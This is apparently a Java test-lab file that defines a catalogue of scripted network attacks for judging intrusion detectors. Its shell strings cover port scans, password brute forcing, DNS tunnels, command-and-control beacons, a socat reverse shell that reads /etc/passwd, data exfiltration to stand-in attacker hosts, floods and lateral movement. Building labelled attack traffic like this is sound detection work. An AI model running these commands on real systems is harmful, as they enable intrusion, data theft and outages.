package dev.weir.standalone.lab;

import static dev.weir.standalone.lab.AttackScripts.SINK;
import static dev.weir.standalone.lab.AttackScripts.WORDS;
import static dev.weir.standalone.lab.AttackScripts.beacon;
import static dev.weir.standalone.lab.AttackScripts.httpEnd;
import static dev.weir.standalone.lab.AttackScripts.repeated;
import static dev.weir.standalone.lab.AttackScripts.sshEnd;
import static dev.weir.standalone.lab.AttackScripts.tlsEnd;
import static dev.weir.standalone.lab.LabHost.API;
import static dev.weir.standalone.lab.LabHost.CI;
import static dev.weir.standalone.lab.LabHost.DB;
import static dev.weir.standalone.lab.LabHost.EVILA;
import static dev.weir.standalone.lab.LabHost.EVILB;
import static dev.weir.standalone.lab.LabHost.JOB;
import static dev.weir.standalone.lab.LabHost.NEW;
import static dev.weir.standalone.lab.LabHost.OPS;
import static dev.weir.standalone.lab.LabHost.ORDERS;
import static dev.weir.standalone.lab.LabHost.SCANNER;
import static dev.weir.standalone.lab.LabHost.SENSOR;
import static dev.weir.standalone.lab.LabHost.USERC;
import static dev.weir.standalone.lab.LabHost.WEB;
import static dev.weir.standalone.lab.LabHost.WEBB;

import dev.weir.standalone.lab.LabAttack.Listener;

/** The first attacks by which detectors were judged before they were tuned on them. */
final class FormerJudgingAttacks extends AttackCatalogue {
    private static final String GUESSES = "for i in $(seq %d); do echo secret$i; done > $FOLDER/secrets-$$\n";

    FormerJudgingAttacks() {
        super(false);
    }

    @Override
    void scans() {
        add("scan-masscan", "masscan", JOB, 1, """
                ping -c 1 -W 1 $DB >/dev/null; mac=$(ip neigh show $DB | sed 's/.*lladdr \\([^ ]*\\).*/\\1/')
                masscan --router-mac $mac --interface $(ip -o route get $DB | sed 's/.* dev \\([^ ]*\\).*/\\1/') \\
                  -p 1-200 --rate 200 --wait 1 $DB
                """);
        add("scan-nmap-xmas", "nmap", ORDERS, 1, "nmap -n -Pn -sX -p 20-90 -T4 --max-retries 0 $API");
        add("scan-fping", "fping", CI, 1, "fping -q -c 1 -t 100 -g 10.60.7.0/26");
        add("scan-telnet", "telnet", SENSOR, 5, """
                for h in $WEB $API $DB $CACHE $BROKER; do
                  for p in 21 22 23 25 110 143 3306 5432 6379 8080 9200 27017; do
                    timeout 0.4 telnet $h $p </dev/null >/dev/null 2>&1
                  done
                done
                """);
        add("scan-snmp", "onesixtyone", WEB, 1, """
                for i in $(seq 60); do echo 10.60.8.$i; done > $FOLDER/targets-$$
                onesixtyone -w 20 -i $FOLDER/targets-$$ public
                """);
        add("scan-netbios", "nbtscan", API, 1, "nbtscan -q -t 50 10.60.7.0/26");
        add("scan-socat-day", "socat", WEBB, 900, """
                for p in $(shuf -i 1-1000 -n 45 --random-source=<(yes)); do
                  timeout 0.3 socat /dev/null tcp:$CACHE:$p; sleep 0.8
                done
                """);
        add("scan-wget-outside", "wget", EVILB, 2, """
                for p in $(seq 8000 8090); do wget -q -T 0.4 -t 1 -O /dev/null http://$WEB:$p/; done
                """);
    }

    @Override
    void webScans() {
        add("http-recon-wfuzz", "wfuzz", EVILA, 1, WORDS.formatted(300) + """
                wfuzz -t 5 --hc 404 -w $FOLDER/words-$$ http://$WEBB/FUZZ.php >/dev/null 2>&1
                """);
        add("http-recon-wget-list", "wget", SENSOR, 1, WORDS.formatted(300) + """
                sed "s#^#http://$API:8080/#" $FOLDER/words-$$ > $FOLDER/urls-$$; wget -q --spider -t 1 -i $FOLDER/urls-$$
                """);
        add("http-recon-wget-slow", "wget", USERC, 20, """
                for i in $(seq 120); do wget -q -t 1 -O /dev/null http://$WEB/cgi-bin/$((i * 37)).cgi; sleep 0.2; done
                """);
    }

    @Override
    void logins() {
        add("bruteforce-ncrack-ssh", "ncrack", SCANNER, 2, GUESSES.formatted(60) + """
                timeout 50 ncrack --user root -P $FOLDER/secrets-$$ -g CL=4 ssh://$API:22
                """);
        add("bruteforce-patator-ssh", "patator", JOB, 4, GUESSES.formatted(40) + """
                timeout 50 patator ssh_login host=$ORDERS user=root password=FILE0 0=$FOLDER/secrets-$$ -t 2 >/dev/null 2>&1
                """);
        add("bruteforce-patator-postgres", "patator", CI, 2, GUESSES.formatted(60) + """
                timeout 50 patator pgsql_login host=$DB user=app password=FILE0 0=$FOLDER/secrets-$$ -t 3 >/dev/null 2>&1
                """);
        add("bruteforce-wget", "wget", NEW, 2, """
                for i in $(seq 120); do wget -q -t 1 -O /dev/null --auth-no-challenge --user admin --password x$i http://$WEB/admin/; done
                """);
        add("bruteforce-psql-slow", "psql", SENSOR, 60, """
                for i in $(seq 45); do PGPASSWORD=slow$i psql -q -h $DB -U backup -c '' postgres; sleep 0.4; done
                """);
    }

    @Override
    void tunnels() {
        add(
                "dns-tunnel-iodine-txt",
                "iodine",
                SENSOR,
                5,
                """
                timeout 25 iodine -f -r -I 2 -T TXT -O base32 -P secret -d dnsj $DNS tunnel.example & sleep 6
                ping -c 20 -i 0.4 -s 200 10.98.0.1
                wait
                """,
                new Listener(EVILA, "exec iodined -f -c -P secret -d dnst 10.98.0.1/24 tunnel.example"));
        add("dns-tunnel-host", "host", ORDERS, 30, """
                for i in $(seq 100); do
                  host -W 1 -R 1 -t A $(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \\n').relay.example $DNS; sleep 0.2
                done
                """);
        add("dns-tunnel-nslookup-mx", "nslookup", WEB, 60, """
                for i in $(seq 70); do
                  nslookup -timeout=1 -retry=1 -type=mx $i-$(head -c 22 /dev/urandom | od -An -tx1 | tr -d ' \\n').cdn.tunnel.example $DNS
                  sleep 0.4
                done
                """);
    }

    @Override
    void channels() {
        add(
                "c2-socat-tls-shell",
                "socat",
                CI,
                20,
                "timeout 45 socat openssl:$EVILB:443,verify=0 exec:/bin/sh",
                new Listener(EVILB, """
                        (for i in $(seq 22); do sleep 1.$((RANDOM % 9)); echo 'id; cat /etc/passwd'; done; echo exit) \
                          | socat - openssl-listen:443,reuseaddr,cert=$FOLDER/tls.crt,key=$FOLDER/tls.key,verify=0
                        """));
        add(
                "c2-openssl-beacon",
                "openssl",
                API,
                60,
                repeated(
                        60,
                        "echo $RANDOM | timeout 0.7 openssl s_client -quiet -connect $EVILA:443 >/dev/null 2>&1",
                        400,
                        25),
                tlsEnd(EVILA, 443));
        add(
                "c2-wget-beacon",
                "wget",
                NEW,
                45,
                repeated(65, "wget -q -t 1 -T 1 -O /dev/null http://$EVILB:8000/task", 700, 3),
                httpEnd(EVILB, 8_000));
        add("c2-dead-wget", "wget", WEBB, 30, """
                for i in $(seq 90); do wget -q -t 1 -T 0.4 -O /dev/null http://$SCANNER:8080/gate; sleep 0.$((100 + RANDOM % 60)); done
                """);
        add("c2-dead-telnet", "telnet", JOB, 20, """
                for i in $(seq 120); do timeout 0.3 telnet $EVILA 5555 </dev/null >/dev/null 2>&1; sleep 0.$((250 + RANDOM % 200)); done
                """);
        add(
                "c2-inside-wget",
                "wget",
                WEB,
                60,
                repeated(70, "wget -q -t 1 -T 1 -O /dev/null http://$NEW:8888/next", 550, 30),
                httpEnd(NEW, 8_888));
        add("c2-curl-jitter", "curl", JOB, 60, beacon("https://$EVILA:8443/u", 70, 750, 30), tlsEnd(EVILA, 8_443));
        add("c2-ssh-reverse", "ssh", ORDERS, 60, """
                timeout 45 ssh $SSH -R 127.0.0.1:0:127.0.0.1:22 root@$EVILB 'for i in $(seq 40); do date; sleep 1; done'
                """, sshEnd(EVILB));
    }

    @Override
    void transfers() {
        add(
                "exfil-wget-post",
                "wget",
                API,
                1,
                "head -c 60000000 /dev/urandom > $FOLDER/archive-$$; wget -q -t 1 -T 20 -O /dev/null"
                        + " --post-file=$FOLDER/archive-$$ http://$EVILA:8080/",
                new Listener(EVILA, SINK.formatted(8_080)));
        add(
                "exfil-openssl-drip",
                "openssl",
                WEB,
                120,
                "for i in $(seq 40); do head -c 3000000 /dev/urandom | timeout 2 openssl s_client -quiet -connect $EVILB:443"
                        + " >/dev/null 2>&1; sleep 0.5; done",
                new Listener(
                        EVILB,
                        "exec socat -u openssl-listen:443,fork,reuseaddr,cert=$FOLDER/tls.crt,key=$FOLDER/tls.key,verify=0"
                                + " open:/dev/null"));
        add(
                "exfil-pgdump",
                "pg_dump",
                CI,
                1,
                "for i in 1 2 3 4; do pg_dump -h $DB -U postgres -t pgbench_accounts postgres >/dev/null; done");
        add(
                "exfil-rsync-push",
                "rsync",
                DB,
                1,
                "head -c 70000000 /dev/urandom > $FOLDER/base-$$; rsync $FOLDER/base-$$ rsync://$EVILB/in/x",
                new Listener(EVILB, """
                        mkdir -p $FOLDER/in
                        printf '[in]\npath = %s/in\nread only = false\nuid = root\nuse chroot = false\n' $FOLDER > $FOLDER/in.conf
                        exec rsync --daemon --no-detach --config=$FOLDER/in.conf --address=$EVILB
                        """));
    }

    @Override
    void floods() {
        add(
                "ddos-siege",
                "siege",
                EVILA,
                1,
                "HOME=$FOLDER siege -q -b -c 40 -t 6S http://$WEBB/index.html >/dev/null 2>&1");
        add("ddos-slowloris", "slowhttptest", USERC, 2, """
                slowhttptest -c 400 -H -i 5 -r 100 -u http://$WEB/ -x 20 -p 2 -l 25 >/dev/null 2>&1
                """);
        add("ddos-httperf", "httperf", JOB, 1, """
                httperf --hog --server $API --port 8080 --uri /healthz --num-conns 3000 --rate 500 --timeout 2 >/dev/null 2>&1
                """);
        add("ddos-hping-udp", "hping3", SENSOR, 1, "hping3 -n -q --udp -c 12000 -i u250 -d 400 -p 53 $DNS");
    }

    @Override
    void lateral() {
        add("lateral-sftp", "sftp", CI, 20, """
                for h in $ORDERS $BASTION $API $WEBB; do
                  printf 'ls /\\nget /etc/hostname %s/h-%s\\nbye\\n' $FOLDER $$ | timeout 8 sftp -q $SSH -b - root@$h; sleep 1
                done
                """);
        add("lateral-rsync-ssh", "rsync", OPS, 20, """
                mkdir -p $FOLDER/etc-$$
                for h in $WEBB $ORDERS $API; do
                  timeout 9 rsync -a -e "ssh $SSH" $FOLDER/www/shop/ root@$h:/tmp/copied-$$/; sleep 1
                  timeout 9 ssh $SSH root@$h 'sleep 3; rm -rf /tmp/copied-*'
                done
                """);
        add("lateral-pod-to-apiserver-wget", "wget", SENSOR, 5, """
                for path in api apis api/v1/namespaces api/v1/pods api/v1/secrets version openapi/v2; do
                  wget -q -t 1 -T 2 --no-check-certificate -O /dev/null https://$KAPI:6443/$path; sleep 0.5
                done
                """);
    }
}
